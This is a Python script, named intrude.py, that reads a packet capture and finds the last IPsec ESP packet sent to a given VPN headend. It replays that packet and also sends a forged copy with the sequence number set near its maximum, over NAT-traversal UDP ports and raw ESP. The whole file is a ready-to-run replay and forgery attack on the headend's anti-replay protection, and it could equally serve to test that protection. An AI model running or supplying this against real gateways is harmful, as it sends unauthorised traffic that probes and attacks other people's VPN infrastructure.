"""Sends ESP of a capture once more, from this host and by every transport: the last packet to the headend as it was, and
with the highest sequence number there is, which only its key's holder could have sent.

usage: intrude.py CAPTURE HEADEND         (prints "<replays> <forgeries>")
"""
import socket
import sys

capture, headend = sys.argv[1:3]
octets = open(capture, "rb").read()
last, at = None, 24
while at + 16 <= len(octets):
    kept, whole = (int.from_bytes(octets[at + part : at + part + 4], "little") for part in (8, 12))
    frame = octets[at + 16 : at + 16 + kept]
    at += 16 + kept
    # Ethernet, IPv4 without options, to the headend, not cut.
    if len(frame) < whole or frame[12:15] != b"\x08\x00\x45" or frame[30:34] != socket.inet_aton(headend):
        continue
    packet = frame[14 : 14 + int.from_bytes(frame[16:18], "big")]
    if packet[9] == 50:
        last = packet[20:]
    elif packet[9] == 17 and int.from_bytes(packet[22:24], "big") in (4500, 10000) and len(packet) > 68:
        last = packet[28:] if packet[28:32] != bytes(4) else last
if not last:
    sys.exit("the capture holds no whole ESP packet")
forged = last[:4] + b"\xff\xff\xff\xf0" + last[8:]
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
native = socket.socket(socket.AF_INET, socket.SOCK_RAW, 50)
for packet in (last, forged):
    udp.sendto(packet, (headend, 4500))
    udp.sendto(packet, (headend, 10000))
    native.sendto(packet, (headend, 0))
print("3 3")
